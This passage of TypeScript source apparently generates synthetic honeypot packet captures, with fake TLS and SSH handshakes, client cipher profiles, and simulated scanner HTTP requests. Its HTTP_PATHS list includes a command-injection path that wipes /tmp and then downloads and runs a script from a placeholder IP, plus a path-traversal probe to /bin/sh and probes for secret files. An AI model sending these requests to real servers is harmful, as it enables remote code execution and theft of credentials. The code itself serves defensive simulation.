          w.end(m, 2);
        }
        w.end(el, 2);
      }),
    );
    return Buffer.from(w.out());
  }

  private clientExt(
    w: Bytes,
    e: number,
    c: TlsClient,
    sni: string | undefined,
    alpn: string[],
    gGroup: number,
    gVer: number,
  ): void {
    switch (e) {
      case 0: {
        const name = sni ?? "";
        w.u16(name.length + 3)
          .u8(0)
          .u16(name.length)
          .str(name);
        break;
      }
      case 5:
        w.u8(1).u16(0).u16(0);
        break;
      case 10: {
        const m = w.mark(2);
        if (c.grease) w.u16(gGroup);
        for (const x of c.groups) w.u16(x);
        w.end(m, 2);
        break;
      }
      case 11:
        w.u8(c.pointFormats.length);
        for (const x of c.pointFormats) w.u8(x);
        break;
      case 13: {
        w.u16(c.sigalgs.length * 2);
        for (const x of c.sigalgs) w.u16(x);
        break;
      }
      case 15: // heartbeat: peer_allowed_to_send
        w.u8(1);
        break;
      case 16: {
        const m = w.mark(2);
        for (const p of alpn) w.u8(p.length).str(p);
        w.end(m, 2);
        break;
      }
      case 17513:
      case 17613: // application_settings (ALPS): supported protocols
        w.u16(3).u8(2).str("h2");
        break;
      case 27: {
        const algs = c.compressCert ?? [2];
        w.u8(algs.length * 2);
        for (const x of algs) w.u16(x);
        break;
      }
      case 28:
        w.u16(0x4001);
        break;
      case 34:
        w.u16(8).u16(0x0403).u16(0x0503).u16(0x0603).u16(0x0203);
        break;
      case 43: {
        const n = c.versions.length + (c.grease ? 1 : 0);
        w.u8(n * 2);
        if (c.grease) w.u16(gVer);
        for (const x of c.versions) w.u16(x);
        break;
      }
      case 45:
        w.u8(1).u8(1);
        break;
      case 51: {
        const m = w.mark(2);
        if (c.grease) w.u16(gGroup).u16(1).u8(0);
        for (const grp of c.keyShares) {
          const n = keyShareLen(grp);
          w.u16(grp).u16(n);
          if (grp === 0x0017 || grp === 0x0018 || grp === 0x0019) {
            w.u8(4);
            this.rand(w, n - 1);
          } else this.rand(w, n);
        }
        w.end(m, 2);
        break;
      }
      case 0xfe0d: {
        // GREASE ECH (outer): HPKE suite, config id, enc, payload
        const r = this.g.rng;
        w.u8(0).u16(0x0001).u16(0x0001).u8(r.int(256)).u16(32);
        this.rand(w, 32);
        const n = r.pick([144, 176, 208, 240]);
        w.u16(n);
        this.rand(w, n);
        break;
      }
      case 0xff01:
        w.u8(0);
        break;
      default: // 18 SCT, 22 encrypt_then_mac, 23 EMS, 35 session_ticket, 49 post_handshake_auth: empty
        break;
    }
  }

  /** Cipher a TLS 1.2 server with this certificate picks (server preference), and whether it is ECDHE. */
  pick12(c: TlsClient, ec: boolean): { cipher: number; ecdhe: boolean } {
    for (const x of ec ? ECDHE_ECDSA : ECDHE_RSA)
      if (c.ciphers.includes(x)) return { cipher: x, ecdhe: true };
    if (!ec) for (const x of RSA_KX) if (c.ciphers.includes(x)) return { cipher: x, ecdhe: false };
    throw new Error(`no common TLS 1.2 cipher for ${c.name}`);
  }

  /** ServerHello, Certificate, [ServerKeyExchange], ServerHelloDone — one record each. */
  serverFlight12(c: TlsClient, chain: CertChain, alpn: string[], cipher: number, ecdhe: boolean): Buffer {
    const w = new Bytes(6144);
    const sel = alpn.find((p) => p === "h2" || p === "http/1.1");
    this.record(w, 0x16, 0x0303, (w) =>
      this.handshake(w, 0x02, (w) => {
        w.u16(0x0303);
        this.rand(w, 32);
        w.u8(32);
        this.rand(w, 32);
        w.u16(cipher).u8(0);
        const el = w.mark(2);
        w.u16(0xff01).u16(1).u8(0);
        if (ecdhe && c.exts.includes(11)) w.u16(11).u16(2).u8(1).u8(0);
        if (c.exts.includes(35)) w.u16(35).u16(0);
        if (c.exts.includes(23)) w.u16(23).u16(0);
        if (sel !== undefined)
          w.u16(16)
            .u16(sel.length + 3)
            .u16(sel.length + 1)
            .u8(sel.length)
            .str(sel);
        w.end(el, 2);
      }),
    );
    this.record(w, 0x16, 0x0303, (w) =>
      this.handshake(w, 0x0b, (w) => {
        const m = w.mark(3);
        for (const der of chain.certs) w.u24(der.length).bytes(der);
        w.end(m, 3);
      }),
    );
    if (ecdhe) {
      this.record(w, 0x16, 0x0303, (w) =>
        this.handshake(w, 0x0c, (w) => {
          w.u8(3).u16(0x001d).u8(32);
          this.rand(w, 32);
          if (chain.ec) {
            w.u16(0x0403);
            const n = 70 + this.g.rng.int(3);
            w.u16(n);
            this.rand(w, n);
          } else {
            w.u16(0x0804).u16(256);
            this.rand(w, 256);
          }
        }),
      );
    }
    this.record(w, 0x16, 0x0303, (w) => this.handshake(w, 0x0e, () => {}));
    return Buffer.from(w.out());
  }

  /** ClientKeyExchange, ChangeCipherSpec, encrypted Finished. */
  clientFinish12(ecdhe: boolean): Buffer {
    const w = new Bytes(512);
    this.record(w, 0x16, 0x0303, (w) =>
      this.handshake(w, 0x10, (w) => {
        if (ecdhe) {
          w.u8(32);
          this.rand(w, 32);
        } else {
          w.u16(256);
          this.rand(w, 256);
        }
      }),
    );
    w.u8(0x14).u16(0x0303).u16(1).u8(1);
    this.encrypted(w, 0x16, 40);
    return Buffer.from(w.out());
  }

  /** [NewSessionTicket], ChangeCipherSpec, encrypted Finished. */
  serverFinish12(ticket: boolean): Buffer {
    const w = new Bytes(512);
    if (ticket) {
      this.record(w, 0x16, 0x0303, (w) =>
        this.handshake(w, 0x04, (w) => {
          w.u32(7200).u16(192);
          this.rand(w, 192);
        }),
      );
    }
    w.u8(0x14).u16(0x0303).u16(1).u8(1);
    this.encrypted(w, 0x16, 40);
    return Buffer.from(w.out());
  }

  /** ServerHello (TLS 1.3 via supported_versions), CCS, encrypted EE/Certificate/CertificateVerify/Finished. */
  serverFlight13(sessionId: Buffer | null, cipher: number, chain: CertChain): Buffer {
    const w = new Bytes(6144);
    this.record(w, 0x16, 0x0303, (w) =>
      this.handshake(w, 0x02, (w) => {
        w.u16(0x0303);
        this.rand(w, 32);
        if (sessionId) w.u8(sessionId.length).bytes(sessionId);
        else w.u8(0);
        w.u16(cipher).u8(0);
        const el = w.mark(2);
        w.u16(43).u16(2).u16(0x0304);
        w.u16(51).u16(36).u16(0x001d).u16(32);
        this.rand(w, 32);
        w.end(el, 2);
      }),
    );
    w.u8(0x14).u16(0x0303).u16(1).u8(1);
    const hash = cipher === 0x1302 ? 48 : 32;
    let certLen = 4 + 3;
    for (const der of chain.certs) certLen += 3 + der.length + 2;
    this.encrypted(w, 0x17, 4 + 2 + this.g.rng.int(12) + 17);
    this.encrypted(w, 0x17, certLen + 1 + 17);
    this.encrypted(w, 0x17, 4 + 4 + (chain.ec ? 71 : 256) + 17);
    this.encrypted(w, 0x17, 4 + hash + 17);
    return Buffer.from(w.out());
  }

  /** Client's CCS + encrypted Finished (TLS 1.3). */
  clientFinish13(cipher: number): Buffer {
    const w = new Bytes(128);
    w.u8(0x14).u16(0x0303).u16(1).u8(1);
    this.encrypted(w, 0x17, 4 + (cipher === 0x1302 ? 48 : 32) + 17);
    return Buffer.from(w.out());
  }

  appData(n: number, records = 1): Buffer {
    const w = new Bytes(n + 5 * records);
    const per = Math.ceil(n / records);
    for (let left = n; left > 0; left -= per) this.encrypted(w, 0x17, Math.min(per, left));
    return Buffer.from(w.out());
  }

  closeNotify(): Buffer {
    const w = new Bytes(32);
    this.encrypted(w, 0x15, 26);
    return Buffer.from(w.out());
  }
}

// ---------------------------------------------------------------------------------------
// SSH

interface SshClient {
  banner: string;
  w: number;
  /** kex, hostkey, enc c2s, enc s2c, mac c2s, mac s2c, comp c2s, comp s2c. */
  kex: string;
  hostkey: string;
  enc: string;
  mac: string;
  comp: string;
}

interface SshServer {
  banner: string;
  kex: string;
  hostkey: string;
  enc: string;
  mac: string;
  comp: string;
}

const OPENSSH_MACS =
  "umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-64@openssh.com,umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1";
const OPENSSH_ENC =
  "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com";
/**
 * The deckies' sshd cipher list leaves out AES-GCM: tshark 4.0 cannot tell that it lacks the
 * keys for an AES-GCM session and dissects the ciphertext as plaintext (malformed packets),
 * which would make the capture useless as a tshark-validated reference.
 */
const DECKY_SSH_ENC = "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr";
const GO_SSH = {
  kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,ext-info-c,kex-strict-c-v00@openssh.com",
  hostkey:
    "rsa-sha2-256-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,ssh-rsa-cert-v01@openssh.com,ssh-dss-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-256,rsa-sha2-512,ssh-rsa,ssh-dss,ssh-ed25519",
  enc: "aes128-gcm@openssh.com,aes256-gcm@openssh.com,chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr",
  mac: "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96",
  comp: "none",
};

const SSH_CLIENTS: SshClient[] = [
  {
    banner: "SSH-2.0-OpenSSH_9.6",
    w: 10,
    kex: "sntrup761x25519-sha512@openssh.com,curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,ext-info-c,kex-strict-c-v00@openssh.com",
    hostkey:
      "ssh-ed25519-cert-v01@openssh.com,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,sk-ssh-ed25519-cert-v01@openssh.com,sk-ecdsa-sha2-nistp256-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,rsa-sha2-256-cert-v01@openssh.com,ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,sk-ssh-ed25519@openssh.com,sk-ecdsa-sha2-nistp256@openssh.com,rsa-sha2-512,rsa-sha2-256",
    enc: OPENSSH_ENC,
    mac: OPENSSH_MACS,
    comp: "none,zlib@openssh.com,zlib",
  },
  {
    banner: "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
    w: 8,
    kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,ext-info-c",
    hostkey:
      "ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ssh-ed25519-cert-v01@openssh.com,rsa-sha2-512-cert-v01@openssh.com,rsa-sha2-256-cert-v01@openssh.com,ssh-rsa-cert-v01@openssh.com,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-ed25519,rsa-sha2-512,rsa-sha2-256,ssh-rsa",
    enc: OPENSSH_ENC,
    mac: OPENSSH_MACS,
    comp: "none,zlib@openssh.com,zlib",
  },
  {
    banner: "SSH-2.0-libssh2_1.10.0",
    w: 14,
    kex: "ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1,diffie-hellman-group-exchange-sha1,ext-info-c",
    hostkey:
      "ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ecdsa-sha2-nistp256-cert-v01@openssh.com,ecdsa-sha2-nistp384-cert-v01@openssh.com,ecdsa-sha2-nistp521-cert-v01@openssh.com,ssh-ed25519,ssh-ed25519-cert-v01@openssh.com,rsa-sha2-256,rsa-sha2-512,ssh-rsa,ssh-rsa-cert-v01@openssh.com,ssh-dss",
    enc: "aes128-gcm@openssh.com,aes256-gcm@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes256-cbc,rijndael-cbc@lysator.liu.se,aes192-cbc,aes128-cbc,blowfish-cbc,arcfour128,arcfour,cast128-cbc,3des-cbc",
    mac: "hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96,hmac-md5,hmac-md5-96,hmac-ripemd160,hmac-ripemd160@openssh.com",
    comp: "none",
  },
  { banner: "SSH-2.0-Go", w: 24, ...GO_SSH },
  {
    banner: "SSH-2.0-paramiko_3.4.0",
    w: 12,
    kex: "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group16-sha512,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1,ext-info-c",
    hostkey:
      "ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-512,rsa-sha2-256,ssh-rsa,ssh-dss",
    enc: "aes128-ctr,aes192-ctr,aes256-ctr,aes128-cbc,aes192-cbc,aes256-cbc,3des-cbc",
    mac: "hmac-sha2-256,hmac-sha2-512,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1,hmac-md5,hmac-sha1-96,hmac-md5-96",
    comp: "none",
  },
  {
    banner: "SSH-2.0-libssh_0.9.6",
    w: 10,
    kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group18-sha512,diffie-hellman-group16-sha512,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1,ext-info-c",
    hostkey:
      "ssh-ed25519,ecdsa-sha2-nistp521,ecdsa-sha2-nistp384,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256,ssh-rsa,ssh-dss",
    enc: "aes256-gcm@openssh.com,aes128-gcm@openssh.com,aes256-ctr,aes192-ctr,aes128-ctr,aes256-cbc,aes192-cbc,aes128-cbc,3des-cbc",
    mac: "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1",
    comp: "none",
  },
  {
    banner: "SSH-2.0-PuTTY_Release_0.80",
    w: 4,
    kex: "sntrup761x25519-sha512@openssh.com,curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group18-sha512,diffie-hellman-group17-sha512,diffie-hellman-group16-sha512,diffie-hellman-group15-sha512,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,rsa2048-sha256,rsa1024-sha1,diffie-hellman-group1-sha1,ext-info-c,kex-strict-c-v00@openssh.com",
    hostkey:
      "ssh-ed448,ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,rsa-sha2-512,rsa-sha2-256,ssh-rsa",
    enc: "aes256-gcm@openssh.com,aes256-ctr,aes256-cbc,rijndael-cbc@lysator.liu.se,aes192-ctr,aes192-cbc,aes128-gcm@openssh.com,aes128-ctr,aes128-cbc,chacha20-poly1305@openssh.com,3des-ctr,3des-cbc,blowfish-ctr,blowfish-cbc,arcfour256,arcfour128",
    mac: "hmac-sha2-256,hmac-sha1,hmac-sha1-96,hmac-md5,hmac-sha2-256-etm@openssh.com,hmac-sha1-etm@openssh.com,hmac-sha1-96-etm@openssh.com,hmac-md5-etm@openssh.com",
    comp: "none,zlib,zlib@openssh.com",
  },
  { banner: "SSH-2.0-ZGrab ZGrab SSH Survey", w: 8, ...GO_SSH },
];

const SSH_SERVERS: SshServer[] = [
  {
    banner: "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.11",
    kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256",
    hostkey: "rsa-sha2-512,rsa-sha2-256,ssh-rsa,ecdsa-sha2-nistp256,ssh-ed25519",
    enc: DECKY_SSH_ENC,
    mac: OPENSSH_MACS,
    comp: "none,zlib@openssh.com",
  },
  {
    banner: "SSH-2.0-OpenSSH_7.4",
    kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
    hostkey: "ssh-rsa,rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519",
    enc: `${DECKY_SSH_ENC},aes128-cbc,aes192-cbc,aes256-cbc,blowfish-cbc,cast128-cbc,3des-cbc`,
    mac: OPENSSH_MACS,
    comp: "none,zlib@openssh.com",
  },
  {
    banner: "SSH-2.0-dropbear_2020.81",
    kex: "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp521,ecdh-sha2-nistp384,ecdh-sha2-nistp256,diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,kexguess2@matt.ucc.asn.au",
    hostkey: "ecdsa-sha2-nistp256,ssh-rsa,ssh-dss",
    enc: "aes128-ctr,aes256-ctr,aes128-cbc,aes256-cbc,3des-ctr,3des-cbc",
    mac: "hmac-sha1-96,hmac-sha1,hmac-sha2-256",
    comp: "zlib@openssh.com,none",
  },
];

function negotiate(client: string, server: string): string {
  const s = server.split(",");
  for (const x of client.split(",")) if (s.includes(x)) return x;
  return s[0];
}

interface SshCrypto {
  kind: "gcm" | "chacha" | "etm" | "plain";
  block: number;
  /** MAC or AEAD tag length. */
  mac: number;
}

function sshCrypto(enc: string, mac: string): SshCrypto {
  if (enc.startsWith("chacha20-poly1305")) return { kind: "chacha", block: 8, mac: 16 };
  if (enc.includes("-gcm@")) return { kind: "gcm", block: 16, mac: 16 };
  const block = enc.startsWith("3des") || enc.startsWith("blowfish") || enc.startsWith("cast128") ? 8 : 16;
  const macLen = mac.includes("sha2-512")
    ? 64
    : mac.includes("sha2-256")
      ? 32
      : mac.includes("-96")
        ? 12
        : mac.startsWith("umac-64")
          ? 8
          : mac.startsWith("umac-128") || mac.startsWith("hmac-md5")
            ? 16
            : 20;
  return { kind: mac.includes("-etm@") ? "etm" : "plain", block, mac: macLen };
}

function ecdhLen(kex: string): number {
  if (kex.startsWith("curve25519")) return 32;
  if (kex === "ecdh-sha2-nistp256") return 65;
  if (kex === "ecdh-sha2-nistp384") return 97;
  if (kex === "ecdh-sha2-nistp521") return 133;
  throw new Error(`profile negotiates a non-ECDH kex: ${kex}`);
}

class SshBuilder {
  constructor(private readonly g: CaptureGenerator) {}

  /** Binary packet (RFC 4253 §6) before encryption: 8-byte block alignment, ≥ 4 padding bytes. */
  packet(payload: (w: Bytes) => void): Buffer {
    const body = new Bytes(1024);
    payload(body);
    const n = body.len;
    let pad = 8 - ((5 + n) % 8);
    if (pad < 4) pad += 8;
    const w = new Bytes(n + pad + 5);
    w.u32(1 + n + pad)
      .u8(pad)
      .bytes(body.out());
    this.g.randBytes(w, pad);
    return Buffer.from(w.out());
  }

  kexinit(a: { kex: string; hostkey: string; enc: string; mac: string; comp: string }): Buffer {
    return this.packet((w) => {
      w.u8(20);
      this.g.randBytes(w, 16);
      for (const list of [a.kex, a.hostkey, a.enc, a.enc, a.mac, a.mac, a.comp, a.comp, "", ""])
        w.u32(list.length).str(list);
      w.u8(0).u32(0);
    });
  }

  private str(w: Bytes, s: string): void {
    w.u32(s.length).str(s);
  }

  ecdhInit(qLen: number): Buffer {
    return this.packet((w) => {
      w.u8(30).u32(qLen);
      if (qLen !== 32) {
        w.u8(4);
        this.g.randBytes(w, qLen - 1);
      } else this.g.randBytes(w, qLen);
    });
  }

  /** KEX_ECDH_REPLY with a host key blob and signature of the negotiated host key type, then NEWKEYS. */
  ecdhReply(qLen: number, hostkey: string): Buffer {
    const reply = this.packet((w) => {
      w.u8(31);
      const ks = w.mark(4);
      if (hostkey === "ssh-ed25519") {
        this.str(w, "ssh-ed25519");
        w.u32(32);
        this.g.randBytes(w, 32);
      } else if (hostkey.startsWith("ecdsa-sha2-")) {
        this.str(w, "ecdsa-sha2-nistp256");
        this.str(w, "nistp256");
        w.u32(65).u8(4);
        this.g.randBytes(w, 64);
      } else {
        this.str(w, "ssh-rsa");
        w.u32(3).u8(1).u8(0).u8(1);
        w.u32(257)
          .u8(0)
          .u8(0x80 | this.g.rng.int(128));
        this.g.randBytes(w, 255);
      }
      w.end(ks, 4);
      w.u32(qLen);
      if (qLen !== 32) {
        w.u8(4);
        this.g.randBytes(w, qLen - 1);
      } else this.g.randBytes(w, qLen);
      const sig = w.mark(4);
      if (hostkey === "ssh-ed25519") {
        this.str(w, "ssh-ed25519");
        w.u32(64);
        this.g.randBytes(w, 64);
      } else if (hostkey.startsWith("ecdsa-sha2-")) {
        this.str(w, "ecdsa-sha2-nistp256");
        const inner = w.mark(4);
        for (let i = 0; i < 2; i++) {
          w.u32(32).u8(1 + this.g.rng.int(127));
          this.g.randBytes(w, 31);
        }
        w.end(inner, 4);
      } else {
        this.str(w, hostkey === "ssh-rsa" ? "ssh-rsa" : hostkey);
        w.u32(256);
        this.g.randBytes(w, 256);
      }
      w.end(sig, 4);
    });
    return Buffer.concat([reply, this.newkeys()]);
  }

  newkeys(): Buffer {
    return this.packet((w) => {
      w.u8(21);
    });
  }

  /**
   * An encrypted packet carrying about `payload` bytes, laid out as the negotiated cipher and MAC
   * put it on the wire: AES-GCM and *-etm MACs leave the 4-byte length in clear (and exclude it
   * from block alignment), chacha20-poly1305 encrypts it separately, the rest encrypt it.
   */
  encrypted(c: SshCrypto, payload: number): Buffer {
    const w = new Bytes(payload + 96);
    if (c.kind === "plain") {
      const total = Math.ceil((4 + 1 + payload + 4) / c.block) * c.block;
      this.g.randBytes(w, total + c.mac);
      return Buffer.from(w.out());
    }
    const len = Math.ceil((1 + payload + 4) / c.block) * c.block;
    if (c.kind === "chacha") this.g.randBytes(w, 4);
    else w.u32(len);
    this.g.randBytes(w, len + c.mac);
    return Buffer.from(w.out());
  }
}

// ---------------------------------------------------------------------------------------
// HTTP

const HTTP_PATHS = [
  "/",
  "/",
  "/index.html",
  "/admin",
  "/login",
  "/wp-login.php",
  "/.env",
  "/.git/config",
  "/phpmyadmin/",
  "/cgi-bin/luci/;stok=/locale",
  "/boaform/admin/formLogin",
  "/HNAP1/",
  "/actuator/health",
  "/server-status",
  "/robots.txt",
  "/favicon.ico",
  "/api/v1/pods",
  "/solr/admin/info/system?wt=json",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/owa/auth/logon.aspx?replaceCurrent=1",
  "/remote/login?lang=en",
  "/+CSCOE+/logon.html",
  "/geoserver/web/",
  "/?XDEBUG_SESSION_START=phpstorm",
  "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/x.sh;sh+x.sh",
  "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
];

const COOKIE_NAMES = [
  "PHPSESSID",
  "session",
  "_ga",
  "csrftoken",
  "JSESSIONID",
  "wordpress_test_cookie",
  "lang",
  "sid",
];
const LANGS = [
  "en-US,en;q=0.9",
  "de-DE,de;q=0.9,en;q=0.8",
  "zh-CN,zh;q=0.9",
  "ru-RU,ru;q=0.8,en-US;q=0.5",
  "en",
];

type HttpClient = (g: CaptureGenerator, host: string, path: string) => string;

function cookies(g: CaptureGenerator): string {
  const r = g.rng;
  const n = 1 + r.int(3);
  const parts: string[] = [];
  const names = r.shuffle(COOKIE_NAMES.slice());
  for (let i = 0; i < n; i++) parts.push(`${names[i]}=${g.hex(8 + r.int(24))}`);
  return parts.join("; ");
}

const HTTP_CLIENTS: { w: number; v: HttpClient }[] = [
  {
    w: 14,
    v: (_g, h, p) => `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n`,
  },
  {
    w: 12,
    v: (_g, h, p) =>
      `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nUser-Agent: python-requests/2.31.0\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\nConnection: keep-alive\r\n\r\n`,
  },
  {
    w: 16,
    v: (_g, h, p) =>
      `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nUser-Agent: Go-http-client/1.1\r\nAccept-Encoding: gzip\r\n\r\n`,
  },
  {
    w: 10,
    v: (_g, h, p) =>
      `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n`,
  },
  {
    w: 10,
    v: (g, h, p) => {
      const r = g.rng;
      let s = `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${r.range(110, 131)}.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8\r\nAccept-Encoding: gzip, deflate\r\nAccept-Language: ${r.pick(LANGS)}\r\n`;
      if (r.chance(0.5)) s += `Cookie: ${cookies(g)}\r\n`;
      return `${s}\r\n`;
    },
  },
  {
    w: 6,
    v: (g, h, p) => {
      const r = g.rng;
      let s = `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:${r.range(115, 128)}.0) Gecko/20100101 Firefox/${r.range(115, 128)}.0\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: ${r.pick(LANGS)}\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n`;
      if (r.chance(0.4)) s += `Cookie: ${cookies(g)}\r\n`;
      if (r.chance(0.3)) s += `Referer: http://${h}/\r\n`;
      return `${s}Upgrade-Insecure-Requests: 1\r\n\r\n`;
    },
  },
  {
    w: 8,
    v: (g, h, p) =>
      `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nUser-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${g.rng.int(5)} Safari/605.1.15\r\nConnection: close\r\nAccept: */*\r\nAccept-Language: en\r\nAccept-Encoding: gzip\r\n\r\n`,
  },
  {
    w: 6,
    v: (_g, _h, p) =>
      `GET ${p} HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n`,
  },
  {
    w: 6,
    v: (g, h, p) =>
      `GET ${p} HTTP/1.1\r\nHost: ${h}\r\nUser-Agent: Hello, World\r\nConnection: keep-alive\r\nAccept-Encoding: gzip, deflate\r\nAccept: */*\r\nX-Forwarded-For: ${g.rng.range(1, 223)}.${g.rng.int(256)}.${g.rng.int(256)}.${g.rng.int(256)}\r\nCookie: ${cookies(g)}\r\n\r\n`,
  },
];

const HTML_FILLER =
  "<p>The requested resource is not available on this server. Please contact the administrator.</p>\n";

// ---------------------------------------------------------------------------------------
// The generator

const NMAP_PORTS = [
  21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 135, 139, 143, 389, 443, 445, 465, 514, 587, 631, 873, 993, 995,
  1025, 1080, 1433, 1521, 1723, 1883, 2049, 2082, 2083, 2181, 2222, 2375, 2376, 3000, 3128, 3306, 3389, 4443,
  4444, 5000, 5060, 5432, 5555, 5601, 5672, 5900, 5984, 6000, 6379, 6443, 7001, 7547, 8000, 8008, 8081, 8088,
  8080, 8443, 8888, 9000, 9090, 9100, 9200, 9300, 10000, 11211, 27017, 49152,
];
const NMAP_WINDOWS = [1024, 2048, 3072, 4096];
const HORIZONTAL_PORTS = [22, 23, 80, 443, 445, 3389, 5900, 6379, 8080, 2375, 9200, 1433, 3306, 5432, 7547];

/** Microseconds of capture per packet: ~3 minutes per million packets. */
const US_PER_PACKET = 180;
/** Share of packets belonging to SYN scans. */
const SCAN_SHARE = 0.7;
const CHUNK = 4 << 20;
const MAX_FRAME = 16 + 14 + 20 + 60 + 1500;

class CaptureGenerator {
  readonly rng: Rng;
  readonly t0 = Date.UTC(2024, 2, 1, 0, 0, 0) * 1000;
  readonly routerMac = Buffer.from([0x00, 0x1b, 0x21, 0x3a, 0x4f, 0x01]);
  private readonly pool: Buffer;
  readonly deckies: Decky[] = [];
  private readonly hot: Attacker[] = [];
  private readonly hotUsed = new Set<number>();
  private freshSources = 0;
